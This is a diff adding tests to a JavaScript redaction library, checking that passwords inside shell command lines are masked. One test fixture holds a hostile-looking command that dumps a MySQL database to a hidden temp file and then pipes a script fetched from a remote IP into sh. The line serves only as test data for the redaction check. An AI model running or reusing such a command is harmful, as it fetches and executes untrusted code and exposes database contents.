@@ -422,3 +422,17 @@ test('cuts a sample between characters and outside masks, longest field last', (
   const masked = redactSample({ ...sample, commandLine: `${'y '.repeat(507)}--pass=${SECRET}` }, keep);
   assert.match(masked.commandLine ?? '', /--pass=…$/);
 });
+
+for (const argv of [
+  ['bash', '-c', 'mysqldump -uroot -pMagnet.Silo app > /tmp/.d; curl -s http://198.51.100.17/m.sh | sh'],
+  ['sh', '-c', 'exec mysql -pMagnet.Silo'],
+  ['/bin/sh', '-lc', 'cd /a && mysqldump -u r -pMagnet.Silo x'],
+]) {
+  test(`knows the program inside a shell's script: ${argv.join(' ')}`, () => {
+    assert.doesNotMatch(redactCommandLine(argv, () => false).join(' '), /Magnet/);
+    assert.doesNotMatch(
+      redactText(argv.join(' '), () => false),
+      /Magnet/,
+    );
+  });
+}
